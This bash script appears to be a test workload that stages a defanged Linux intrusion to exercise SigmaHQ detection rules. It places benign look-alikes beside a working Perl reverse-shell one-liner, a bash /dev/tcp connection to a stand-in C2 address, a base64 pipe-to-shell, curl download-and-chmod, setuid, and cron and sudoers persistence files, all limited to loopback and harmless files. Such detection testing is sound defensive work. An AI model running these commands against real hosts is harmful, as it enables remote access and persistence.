#!/usr/bin/env bash
# A scripted intrusion for the Sigma fixtures: behaviours that SigmaHQ's
# unchanged Linux rules describe, among benign look-alikes. Run under
# rg-capture as root (scripts/record-sigma-captures.sh does):
#   rg-capture -o intrusion.rgc --follow -- bash scripts/sigma-intrusion-workload.sh WORKDIR [PORT [C2ADDR]]
# WORKDIR must not be under /tmp. Needs local listeners on C2ADDR:4444 (default
# 127.0.0.2; tests pick another loopback address so parallel runs cannot collide) and
# 127.0.0.1:PORT (default 18081; an HTTP server for the download). Everything it writes
# outside WORKDIR (/etc/cron.d, /etc/sudoers.d, /dev/shm, /tmp) holds only
# comments or copies of /usr/bin/true, and is removed before it exits (with
# /etc/sudoers.d itself when it made it).
set -u
work=${1:?workdir}
port=${2:-18081}
c2=${3:-127.0.0.2}
tmp=$(mktemp -d /tmp/rg-sigma.XXXXXX)
mkdir -p "$work/home"
sudoers_made=
cleanup() {
  rm -rf "$tmp" /dev/shm/.rg-sigma-dropper /etc/cron.d/rg-sigma-demo /etc/sudoers.d/rg-sigma-demo
  if [ -n "$sudoers_made" ]; then rmdir /etc/sudoers.d; fi
}
trap cleanup EXIT

# --- benign look-alikes: none of these should alert ---
echo 'hello' | base64 > "$work/hello.b64"                          # base64 encoding, no decoding
cp /usr/bin/true "$work/tool" && "$work/tool"                      # a program run from a work directory
exec 3<>/dev/tcp/127.0.0.1/$port 2>/dev/null && exec 3<&-            # bash connects to 127.0.0.1 (the rule leaves it out)
echo '# notes' > "$work/cron.d-notes"                              # a cron-like name outside cron directories

# --- the intrusion (each line: what it does -> the SigmaHQ rule that should find it) ---
bash -c 'echo ZWNobyByZy1zaWdtYS1kZW1vCg== | base64 -d | sh'         # -> Linux Base64 Encoded Pipe to Shell; Linux Shell Pipe to Shell; Decode Base64 Encoded Text
cp /usr/bin/true /dev/shm/.rg-sigma-dropper && /dev/shm/.rg-sigma-dropper   # -> Process Execution From Shared Memory Directory
cp /usr/bin/true "$tmp/update" && "$tmp/update"                     # -> Potentially Suspicious Execution From Tmp Folder
mkfifo "$tmp/f"                                                     # -> Potentially Suspicious Named Pipe Created Via Mkfifo; Named Pipe Created Via Mkfifo
exec 4<>/dev/tcp/$c2/4444 2>/dev/null && exec 4<&-            # -> Linux Reverse Shell Indicator (bash connecting out)
perl -e 'use Socket;$i="'"$c2"'";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");open(STDOUT,">&S");open(STDERR,">&S");exec("/bin/sh -i");};'   # -> Potential Perl Reverse Shell Execution
echo '# rand-guard Sigma demo: no job' > /etc/cron.d/rg-sigma-demo  # -> New Cron File Created
[ -d /etc/sudoers.d ] || { mkdir -m 750 /etc/sudoers.d && sudoers_made=1; }   # (sudo may not be installed)
echo '# rand-guard Sigma demo: no rule' > /etc/sudoers.d/rg-sigma-demo   # -> Persistence Via Sudoers.d Files
echo 'ls' > "$work/home/.bash_history" && rm -f "$work/home/.bash_history"   # -> History File Deletion (and File Deletion, informational)
cp /usr/bin/true "$tmp/sh2" && sh -c "chown root $tmp/sh2 && chmod u+s $tmp/sh2"   # -> Setuid and Setgid; Chmod Targeting Sensitive Directories
if command -v curl > /dev/null; then
  sh -c "/usr/bin/curl -s -o $tmp/payload http://127.0.0.1:$port/payload; chmod +x $tmp/payload"   # -> Suspicious Download and Execute Pattern via Curl/Wget; Curl Usage on Linux
fi
exit 0
